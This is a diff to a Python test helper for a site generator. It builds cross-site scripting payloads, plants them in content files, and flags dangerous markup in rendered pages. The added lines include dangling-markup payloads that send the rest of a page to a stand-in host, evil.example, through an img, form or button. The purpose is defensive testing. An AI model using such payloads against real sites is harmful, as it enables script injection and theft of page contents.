@@ -1,4 +1,4 @@
-"""Texts that run a script where a page shows them unescaped, and what to look for in a page."""
+"""Texts that do harm where a page shows them unescaped, and a search for such harm in a page."""
 
 from __future__ import annotations
 
@@ -23,7 +23,7 @@ from widget.rules.texts import texts
 RUN = "alert(1)"
 
 _LEAVING = ("", '">', "'>", "</title>", "</script>", "</style>", "-->", "</main>", "]]>", "</bdi>")
-"""What ends the place where a text may stand."""
+"""Markup that ends a place where a page may have a text."""
 
 _RUNNING = (
     f"<script>{RUN}</script>",
@@ -87,6 +87,12 @@ _OTHERS = (
     "<link rel=stylesheet href=//evil.example/a.css>",
     f"<template><script>{RUN}</script></template>",
     f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+    # These open a quotation or an element, which swallows the rest of the page.
+    "<img src='//evil.example/?",
+    "<a href=//evil.example/><base target='",
+    "<form action=//evil.example/><input type=submit><textarea name=rest>",
+    "<button formaction=//evil.example/ form=a>",
+    "<plaintext>",
 )
 PAYLOADS = tuple(dict.fromkeys((*(a + b for a in _LEAVING for b in _RUNNING), *_OTHERS)))
 assert len(PAYLOADS) >= 200
@@ -94,13 +100,13 @@ assert len(PAYLOADS) >= 200
 LOADING = {"src", "href", "action", "formaction", "data", "xlink:href", "srcdoc"}
 FOREIGN = {
     *("object", "embed", "base", "math", "marquee", "video", "audio", "source", "template"),
-    *("svg", "noscript", "frame", "applet", "scr"),
+    *("svg", "noscript", "frame", "applet", "plaintext"),
 }
-"""Tags that no page of ours has."""
+"""Elements that none of our pages has."""
 
 
 def dangers(html: str) -> list[str]:
-    """What in a page could run, load or send what is not ours."""
+    """What in a page could run a script, load a foreign file or send a form elsewhere."""
     return [*_found(Main(html).tags)]
 
 
@@ -122,7 +128,7 @@ def _found(tags: list[tuple[str, dict[str, str]]]) -> Iterator[str]:
             yield f"meta {given}"
 
 
-# Content directories that hold them.
+# Content directories with payloads.
 
 FILE = """
 name = {name}
@@ -164,7 +170,7 @@ FIELDS = {
     "colour": ("accent", "#063{}"),
     "font": ("font", "{}"),
 }
-"""Where a partner's file takes a text: its key, and what stands around a payload there."""
+"""The fields of a partner's file that take a text: key, and the text around a payload."""
 
 
 def partner_with(field: str, payload: str) -> str:
@@ -179,13 +185,13 @@ def partner_with(field: str, payload: str) -> str:
 
 
 def named_twice(own: str, english: str) -> str:
-    """The file of a partner with these names, of which its own is Kazakh."""
+    """The file of a partner with an own name in Kazakh and an English name."""
     names = (json.dumps(each, ensure_ascii=False) for each in (own, english))
     return FILE.format(**HARMLESS | {"name": "{{ kk = {}, en = {} }}".format(*names)})
 
 
 def partners_with_payloads(directory: Path) -> Path:
-    """A content directory with a partner for each field and payload, such as `site-17`."""
+    """A content directory with one partner for each field and payload, such as `site-17`."""
     return write_content(
         directory,
         {
@@ -197,11 +203,11 @@ def partners_with_payloads(directory: Path) -> Path:
 
 
 IN_TEXTS = tuple(each for each in PAYLOADS if not set(each) & set("{}%\r\n\0\u2028\u202e"))
-"""Payloads that a text of the rules may hold: it is one line, and its braces name something."""
+"""Payloads that a text of the rules may hold: one line, without braces and percent signs."""
 
 
 def rules_with_payloads(directory: Path) -> Path:
-    """A content directory in which each text ends with a payload, in all languages."""
+    """A content directory in which each text ends with a payload, in every language."""
     write_content(directory)
     payloads = cycle(IN_TEXTS)
     rules = rules_path(directory)
@@ -215,7 +221,7 @@ def rules_with_payloads(directory: Path) -> Path:
 
 
 def _fill(path: Path, english: list[str], payloads: Iterator[str]) -> dict[str, str]:
-    """Write payloads behind the texts of a file, and return each text with its payload."""
+    """Append payloads to the texts of a file, and return text → text with its payload."""
     written = path.read_text()
     longer = {text: f"{text} {next(payloads)}" for text in english}
     for text, with_payload in longer.items():
